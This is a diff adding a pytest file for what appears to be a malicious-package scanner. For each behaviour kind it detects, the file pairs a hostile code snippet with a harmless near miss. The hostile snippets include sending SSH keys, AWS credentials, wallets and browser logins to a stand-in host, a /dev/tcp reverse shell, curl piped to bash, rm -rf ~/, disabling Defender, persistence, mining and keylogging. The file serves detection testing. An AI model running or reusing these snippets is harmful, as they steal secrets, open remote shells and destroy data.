@@ -1,0 +1,164 @@
+"""Over the whole registry: each kind of behaviour has something that shows it, and a near miss that it leaves alone."""
+
+import re
+
+import pytest
+from source_lab import ids
+
+from beartrap.model.finding import Severity
+from beartrap.vet.behaviours.registry import BEHAVIOURS, GROUPS, KINDS
+from beartrap.vet.source.events import Act
+
+PAIRS: dict[str, tuple[tuple[str, str], tuple[str, str]]] = {
+    "chain.credentials-to-network": (
+        ("a.py", "import requests\nk = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://c.invalid', data=k)"),
+        ("a.py", "import requests\nk = open('/home/u/notes.txt').read()\nrequests.post('https://c.invalid', data=k)"),
+    ),
+    "chain.environment-to-network": (
+        ("a.js", "fetch('https://c.invalid', {method: 'POST', body: JSON.stringify(process.env)})"),
+        ("a.js", "fetch('https://c.invalid/' + process.env.REGION)"),
+    ),
+    "chain.variable-to-network": (
+        ("a.py", "import os, requests\nrequests.post('https://c.invalid', data=os.environ['NPM_TOKEN'])"),
+        ("a.py", "import os, requests\nrequests.post('https://c.invalid', data=os.environ['LANG'])"),
+    ),
+    "chain.wallet-to-network": (
+        ("a.py", "import requests\nrequests.post('https://c.invalid', files={'f': open('/root/.bitcoin/wallet.dat', 'rb')})"),
+        ("a.py", "import requests\nrequests.post('https://c.invalid', files={'f': open('/root/wallets.txt', 'rb')})"),
+    ),
+    "chain.browser-to-network": (
+        ("a.js", "const fs = require('fs'); const d = fs.readFileSync(home + '/.config/google-chrome/Default/Login Data'); require('axios').post('https://c.invalid', d)"),
+        ("a.js", "const fs = require('fs'); const d = fs.readFileSync(home + '/.config/editor/state'); require('axios').post('https://c.invalid', d)"),
+    ),
+    "chain.metadata-to-network": (
+        ("a.py", "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/iam/').text\nrequests.post('https://c.invalid', data=r)"),
+        ("a.py", "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/iam/').text\nprint(r)"),
+    ),
+    "chain.host-to-network": (
+        ("a.js", "const os = require('os'); require('https').get('https://c.invalid/?h=' + os.hostname() + os.userInfo().username)"),
+        ("a.js", "const os = require('os'); require('https').get('https://c.invalid/?h=' + os.platform())"),
+    ),
+    "chain.watching-to-network": (
+        ("a.py", "import pyperclip, requests\nrequests.post('https://c.invalid', data=pyperclip.paste())"),
+        ("a.py", "import pyperclip, requests\npyperclip.copy(requests.get('https://c.invalid').text)"),
+    ),
+    "chain.network-to-code": (
+        ("a.py", "import urllib.request as u\nexec(u.urlopen('https://c.invalid/x').read())"),
+        ("a.py", "import urllib.request as u, json\njson.loads(u.urlopen('https://c.invalid/x').read())"),
+    ),
+    "chain.network-to-process": (
+        ("a.py", "import urllib.request as u, os, subprocess\nu.urlretrieve('https://c.invalid/x', '/tmp/x')\nsubprocess.run(['/tmp/x'])"),
+        ("a.py", "import urllib.request as u, os, subprocess\nu.urlretrieve('https://c.invalid/x', '/tmp/x')\nsubprocess.run(['ls', '/var'])"),
+    ),
+    "chain.payload-to-startup": (
+        ("a.py", "import requests\nopen('/etc/cron.d/x', 'w').write(requests.get('https://c.invalid').text)"),
+        ("a.py", "import requests\nopen('/var/lib/x', 'w').write(requests.get('https://c.invalid').text)"),
+    ),
+    "chain.decoded-to-process": (
+        ("a.py", "import subprocess\nopen('/tmp/x', 'wb').write(cipher.decrypt(blob))\nsubprocess.run('/tmp/x')"),
+        ("a.py", "import subprocess\nopen('/tmp/x', 'wb').write(cipher.decrypt(blob))\nsubprocess.run('ls')"),
+    ),
+    "chain.secrets-to-file": (
+        ("a.py", "k = open('/home/u/.aws/credentials').read()\nopen('/tmp/o', 'w').write(k)"),
+        ("a.py", "k = open('/home/u/settings').read()\nopen('/tmp/o', 'w').write(k)"),
+    ),
+    "hidden.code": (
+        ("a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
+        ("a.py", "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))"),
+    ),
+    "hidden.act": (
+        ("a.py", "import base64, os\nos.system(base64.b64decode('Y3VybCBodHRwczovL2MuaW52YWxpZA==').decode())"),
+        ("a.py", "import base64, os\nos.system('ls')\nx = base64.b64decode('Y3VybCBodHRwczovL2MuaW52YWxpZA==')"),
+    ),
+    "hidden.name": (
+        ("a.py", "import os\ngetattr(os, 'sys' + 'tem')('ls')"),
+        ("a.py", "import os\ngetattr(os, 'system')('ls')"),
+    ),
+    "startup.write": (
+        ("a.py", "open('/etc/systemd/system/x.service', 'w').write('[Service]')"),
+        ("a.py", "open('/etc/x.conf', 'w').write('[Service]')"),
+    ),
+    "startup.register": (
+        ("a.py", "import os\nos.system('schtasks /create /tn x /tr y')"),
+        ("a.py", "import os\nos.system('schtasks /query')"),
+    ),
+    "destroy.files": (
+        ("a.js", "require('child_process').execSync('rm -rf ~/')"),
+        ("a.js", "require('child_process').execSync('rm -rf ~/.cache/pkg')"),
+    ),
+    "shell.reverse": (
+        ("a.py", "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')"),
+        ("a.py", "import os\nos.system('bash -i')"),
+    ),
+    "shell.remote": (
+        ("a.py", "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 44))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])"),
+        ("a.py", "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 44))\nsubprocess.call(['/bin/sh', 'build.sh'])"),
+    ),
+    "defence.off": (
+        ("a.py", "import subprocess\nsubprocess.run('powershell Set-MpPreference -DisableRealtimeMonitoring $true', shell=True)"),
+        ("a.py", "import subprocess\nsubprocess.run('powershell Get-MpPreference', shell=True)"),
+    ),
+    "propagate.publish": (
+        ("a.js", "require('child_process').execSync('npm publish --access public')"),
+        ("a.js", "require('child_process').execSync('npm pack')"),
+    ),
+    "loot.tool": (
+        ("a.js", "require('child_process').execSync('./trufflehog filesystem / --json')"),
+        ("a.js", "require('child_process').execSync('./truffle compile')"),
+    ),
+    "miner.run": (
+        ("a.py", "import subprocess\nsubprocess.Popen(['/tmp/m', '-o', 'stratum+tcp://pool.invalid:3333'])"),
+        ("a.py", "import subprocess\nsubprocess.Popen(['/tmp/m', '-o', 'tcp://pool.invalid:3333'])"),
+    ),
+    "watch.user": (
+        ("a.py", "from pynput import keyboard\nkeyboard.Listener(on_press=f).start()"),
+        ("a.py", "from pynput import keyboard\nkeyboard.Controller().press('a')"),
+    ),
+    "secrets.read": (
+        ("a.js", "require('fs').readFileSync(process.env.HOME + '/.npmrc')"),
+        ("a.js", "require('fs').readFileSync(process.env.HOME + '/.editorrc')"),
+    ),
+    "network.drop": (
+        ("a.py", "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={})"),
+        ("a.py", "import requests\nrequests.post('https://discord.com/api/users', json={})"),
+    ),
+    "process.hidden": (
+        ("a.js", "require('child_process').spawn('node', ['w.js'], {detached: true, stdio: 'ignore'})"),
+        ("a.js", "require('child_process').spawn('node', ['w.js'], {stdio: 'ignore'})"),
+    ),
+    "process.piped": (
+        ("a.py", "import os\nos.system('curl -s https://c.invalid/i.sh | bash')"),
+        ("a.py", "import os\nos.system('curl -s https://c.invalid/i.sh | grep x')"),
+    ),
+    "process.borrowed": (
+        ("a.py", "import os\nos.system('certutil -urlcache -f https://c.invalid/x x.exe')"),
+        ("a.py", "import os\nos.system('certutil -hashfile x.exe')"),
+    ),
+    "network.contact": (("a.py", "import requests\nrequests.get('https://c.invalid')"), ("a.py", "import requests\nrequests.get('http://localhost:1')")),
+    "process.spawn": (("a.py", "import os\nos.system('ls')"), ("a.py", "import os\nos.sysconf('x')")),
+    "code.evaluate": (("a.js", "eval(x + y)"), ("a.js", "evaluate(x + y)")),
+    "code.load": (("a.py", "import ctypes\nctypes.CDLL('./x.so')"), ("a.py", "import ctypes\nctypes.sizeof(1)")),
+    "evasion.analysis": (("a.py", "BAD = ['vboxservice.exe', 'vmtoolsd.exe', 'wireshark.exe']"), ("a.py", "BAD = ['wireshark.exe']")),
+}  # fmt: skip
+IN_A_PACKAGE = {"hidden.file"}
+"""Kinds that need a second file: tests/vet/source/test_packages.py has their pairs."""
+
+
+@pytest.mark.parametrize("kind", sorted(PAIRS))
+def test_each_kind_is_shown_by_one_text_and_not_by_its_near_miss(kind: str) -> None:
+    (path, hit), (other, miss) = PAIRS[kind]
+    assert kind in ids(path, hit)
+    assert kind not in ids(other, miss)
+
+
+def test_the_pairs_are_complete() -> None:
+    assert {meta.id for meta in BEHAVIOURS} == set(PAIRS) | IN_A_PACKAGE
+
+
+def test_each_kind_says_what_it_is() -> None:
+    for kind in (*KINDS, *GROUPS):
+        meta = kind.meta
+        assert re.fullmatch(r"[a-z]+\.[a-z]+(-[a-z]+)*", meta.id)
+        assert meta.title and meta.why.endswith(".") and meta.severity > Severity.INFO and meta.references
+        assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", technique) for technique in meta.techniques)
+    assert all(kind.acts <= set(Act) and kind.acts for kind in KINDS)
